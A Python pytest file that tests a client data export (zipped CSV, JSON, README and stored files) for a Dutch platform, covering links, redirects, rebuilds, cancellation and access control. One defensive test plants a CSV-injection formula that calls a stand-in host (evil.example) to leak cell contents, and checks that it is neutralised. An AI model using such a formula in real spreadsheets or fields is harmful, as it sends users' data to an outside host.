"""The exit export, built ahead by the nightly exit_processing and handed out by GET
/exits/{id}/export: a zip of every client table of the data map as CSV and JSON, a Dutch README
and the stored files; a short-lived link, or (?download=1) a 303 to it so Blob storage streams
the zip; 202 while it is being prepared; rebuilt when stale; gone once cancelled or destroyed."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import tracemalloc
import urllib.request
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import insert, select

from shared.audit import audit_events
from shared.datamap.discovery import table
from shared.datamap.platform_map import DATA_MAP
from shared.storage import DOCUMENTS, EXPORTS
from tests.support.exit_data import run_exit_processing, seed_client

ADMIN, STAFF = "Client.Admin", "Privacy.Staff"


@pytest.fixture
def world(blob_deps, clock):
    """Clients 1 and 2 with their files in Azurite; the clock at real time (the storage service
    checks a link against it)."""
    deps = blob_deps
    clock.set(datetime.now(UTC).replace(microsecond=0))
    with deps.platform.begin() as conn:
        one = seed_client(conn, 1)
        two = seed_client(conn, 2, debtors=1)
    for path in one.blob_paths + two.blob_paths:
        deps.blobs.upload(DOCUMENTS, path, f"inhoud van {path}".encode(), overwrite=True)
    return deps, one, two


def give_notice(client, client_id=1) -> str:
    resp = client.post("exits", {"client_id": client_id, "choice": "delete"}, role=ADMIN, client_id=client_id)
    assert resp.status == 201, resp.body
    return resp.json()["id"]


def actions(deps, exit_id) -> list[str]:
    with deps.store.connect() as conn:
        return [a for (a,) in conn.execute(select(audit_events.c.action).where(  # not the access audit
            audit_events.c.object_id == exit_id, audit_events.c.action.not_like("access.%")).order_by(
            audit_events.c.seq))]


def fetch(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=10) as got:
        return got.read()


def exports_of(deps, client_id: int, exit_id: str) -> list[str]:
    return deps.blobs.list(EXPORTS, prefix=f"{client_id}/{exit_id}/")


def test_before_the_nightly_run_the_export_is_being_prepared(client, world):
    deps, _, _ = world
    exit_id = give_notice(client)
    for params in (None, {"download": "1"}):
        resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1, params=params)
        assert resp.status == 202, resp.body
        assert resp.json()["status"] == "being_prepared" and "nightly" in resp.json()["detail"]
        assert resp.header("Retry-After") == "3600"
    assert exports_of(deps, 1, exit_id) == [] and actions(deps, exit_id) == ["exit.notice_given"]


def test_the_nightly_run_builds_the_export_at_notice_and_the_get_gives_a_link(client, world, clock):
    deps, one, _ = world
    exit_id = give_notice(client)
    run = run_exit_processing(deps)
    assert run["status"] == "succeeded" and run["evidence"]["exports_built"] == 1
    assert len(exports_of(deps, 1, exit_id)) == 1
    resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1)
    assert resp.status == 200, resp.body
    link = resp.json()
    assert datetime.fromisoformat(link["expires_at"]) == clock.at + timedelta(minutes=15)
    data = fetch(link["url"])
    assert hashlib.sha256(data).hexdigest() == link["sha256"]
    zf = zipfile.ZipFile(io.BytesIO(data))
    names = zf.namelist()
    assert names[0] == "contact_registrations.csv"  # the map's export_first table leads
    for tm in DATA_MAP.client_scoped():
        rows = list(csv.DictReader(io.StringIO(zf.read(f"{tm.table}.csv").decode("utf-8"))))
        records = json.loads(zf.read(f"{tm.table}.json"))
        assert len(rows) == len(records) == one.rows[tm.table], tm.table
    readme = zf.read("README.txt").decode("utf-8")
    assert "contactregistraties" in readme.lower() and "EXPORT VAN DE GEGEVENS VAN CLIËNT 1" in readme
    docs = [n for n in names if n.startswith("documenten/")]
    assert len(docs) == len(one.blob_paths) and zf.read(docs[0]).decode().startswith("inhoud van client1/")
    assert b"client2" not in b"".join(zf.read(n) for n in names)  # nothing of the other client
    assert json.loads(zf.read("payments.json"))[0]["amount"] == "25.00"  # money as exact decimal text
    client.get(f"exits/{exit_id}/export", role=STAFF)
    assert actions(deps, exit_id) == ["exit.notice_given", "exit.export_built", "exit.export_link_issued",
                                      "exit.export_link_issued"]


def test_download_sends_the_caller_on_to_blob_storage_with_bounded_memory(client, world):
    """An export of several megabytes of incompressible files: the function answers 303 to the
    link and holds nothing of the zip; following it streams the same bytes in chunks."""
    deps, one, _ = world
    for path in one.blob_paths:
        deps.blobs.upload(DOCUMENTS, path, os.urandom(512 * 1024), overwrite=True)
    exit_id = give_notice(client)
    run_exit_processing(deps)
    (blob,) = exports_of(deps, 1, exit_id)
    size = len(deps.blobs.download(EXPORTS, blob))
    assert size > len(one.blob_paths) * 512 * 1024  # the files went in whole
    tracemalloc.start()
    try:
        resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1, params={"download": "1"})
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert resp.status == 303, resp.body
    assert peak < size / 10, (peak, size)  # the function never held the zip
    digest, chunks, got = hashlib.sha256(), 0, 0
    with urllib.request.urlopen(resp.header("Location"), timeout=10) as stream:
        while chunk := stream.read(64 * 1024):
            digest.update(chunk)
            chunks, got = chunks + 1, got + len(chunk)
    assert got == size and chunks > 1 and digest.hexdigest() == resp.json()["sha256"]
    assert actions(deps, exit_id)[-1] == "exit.export_downloaded"


def test_the_build_holds_no_database_connection_across_a_blob_call(client, world):
    deps, _, _ = world
    exit_id = give_notice(client)
    seen: list[int] = []
    real = deps.blobs

    class Watching:
        def __getattr__(self, name):
            def call(*args, **kwargs):
                seen.append(deps.platform.pool.checkedout() + deps.store.pool.checkedout())
                result = getattr(real, name)(*args, **kwargs)
                if name == "stream":  # a generator: the chunks are read later, count each
                    return (seen.append(deps.platform.pool.checkedout()) or chunk for chunk in result)
                return result
            return call

    deps.__dict__["blobs"] = Watching()
    try:
        from shared.exits.export import build_export

        build_export(deps, exit_id)
    finally:
        deps.__dict__["blobs"] = real
    assert seen and set(seen) == {0}, seen


def test_a_stale_export_is_rebuilt_and_the_old_file_removed(client, world, clock):
    deps, _, _ = world
    exit_id = give_notice(client)
    run_exit_processing(deps)
    first = client.get(f"exits/{exit_id}", role=ADMIN, client_id=1).json()["export"]
    clock.advance(timedelta(days=1))
    assert run_exit_processing(deps)["evidence"]["exports_rebuilt"] == 0  # nothing changed: kept
    with deps.platform.begin() as conn:  # the client's data change: a new contact registration
        cr = table("contact_registrations")
        dossier = conn.execute(select(cr.c.dossier_id).limit(1)).scalar_one()
        conn.execute(insert(cr).values(id=999_999, dossier_id=dossier, kind="phone", direction="in",
                                       occurred_at=clock.at, summary="Belde over de opzegging"))
    clock.advance(timedelta(days=1))
    assert run_exit_processing(deps)["evidence"]["exports_rebuilt"] == 1
    second = client.get(f"exits/{exit_id}", role=ADMIN, client_id=1).json()["export"]
    assert second["counts"]["contact_registrations"] == first["counts"]["contact_registrations"] + 1
    clock.advance(timedelta(days=8))  # older than a week: rebuilt though nothing changed
    assert run_exit_processing(deps)["evidence"]["exports_rebuilt"] == 1
    third = client.get(f"exits/{exit_id}", role=ADMIN, client_id=1).json()["export"]
    assert third["built_at"] > second["built_at"] > first["built_at"]
    assert len(exports_of(deps, 1, exit_id)) == 1  # the old files are gone


def test_cancel_removes_the_export_and_it_is_gone(client, world):
    deps, _, _ = world
    exit_id = give_notice(client)
    run_exit_processing(deps)
    assert client.post(f"exits/{exit_id}/cancel", role=ADMIN, client_id=1).status == 200
    assert exports_of(deps, 1, exit_id) == []
    gone = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1)
    assert gone.status == 410 and gone.json()["title"] == "Gone"
    assert run_exit_processing(deps)["evidence"]["exports_built"] == 0  # a cancelled exit gets none


def test_another_clients_export_is_a_404_and_hands_out_nothing(client, world):
    deps, _, _ = world
    exit_id = give_notice(client, 2)
    run_exit_processing(deps)
    for params in (None, {"download": "1"}):
        resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1, params=params)
        assert resp.status == 404 and "url" not in resp.json() and resp.header("Location") is None
    assert actions(deps, exit_id) == ["exit.notice_given", "exit.export_built"]


@pytest.mark.parametrize("params", [{"download": "misschien"}, {"download": ""}, {"format": "zip"}])
def test_bad_query_is_422(client, world, params):
    exit_id = give_notice(client)
    resp = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1, params=params)
    assert resp.status == 422 and resp.json()["status"] == 422


def test_a_debtor_named_like_a_formula_is_neutralised_in_the_csv(client, world):
    """CSV injection: a debtor-controlled name must not run in the client's spreadsheet."""
    deps, _, _ = world
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    with deps.platform.begin() as conn:
        debtors = table("debtors")
        first = conn.execute(select(debtors.c.id).where(debtors.c.client_id == 1).limit(1)).scalar_one()
        conn.execute(debtors.update().where(debtors.c.id == first).values(name=evil, phone="+31 6 12345678"))
    exit_id = give_notice(client)
    run_exit_processing(deps)
    link = client.get(f"exits/{exit_id}/export", role=ADMIN, client_id=1).json()
    zf = zipfile.ZipFile(io.BytesIO(fetch(link["url"])))
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(zf.read("debtors.csv").decode("utf-8")))}
    assert rows[str(first)]["name"] == "'" + evil and rows[str(first)]["phone"] == "'+31 6 12345678"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows.values() for v in r.values()
                   if v and not v.lstrip("-").replace(".", "").isdigit())
    as_json = {r["id"]: r for r in json.loads(zf.read("debtors.json"))}
    assert as_json[first]["name"] == evil  # JSON is data, not a sheet: kept as it is
